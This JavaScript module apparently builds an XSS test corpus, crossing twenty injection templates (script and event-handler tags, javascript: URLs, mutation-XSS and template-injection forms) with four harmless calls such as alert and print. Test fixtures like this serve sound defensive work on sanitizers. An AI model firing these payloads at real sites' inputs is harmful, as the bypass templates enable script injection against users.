/** Eighty texts that would do something if any part of the page took them for more than text. */

const JS = ['alert(1)', 'top.alert(2)', 'print()', 'confirm`3`'];
const TEMPLATES = [
  (js) => `<script>${js}</script>`,
  (js) => `<img src=x onerror=${js}>`,
  (js) => `"><svg/onload=${js}>`,
  (js) => `'><body onload=${js}>`,
  (js) => `<a href="javascript:${js}">x</a>`,
  (js) => `javascript:${js}`,
  (js) => `" onmouseover="${js}`,
  (js) => `' autofocus onfocus='${js}`,
  (js) => `<iframe srcdoc="<script>${js}</script>">`,
  (js) => `<math><mtext><mglyph><style><img src onerror=${js}>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `</textarea><script>${js}</script>`,
  (js) => `</title><svg onload=${js}>`,
  (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => `\${${js}}`,
  (js) => `<%= ${js} %>`,
  (js) => `&lt;img src=x onerror=${js}&gt;`,
  (js) => `<details open ontoggle=${js}>`,
  (js) => `<object data="data:text/html,<b onclick=${js}>">`,
  (js) => `<!--><svg onload=${js}>-->`,
];

export const PAYLOADS = TEMPLATES.flatMap((make) => JS.map(make));
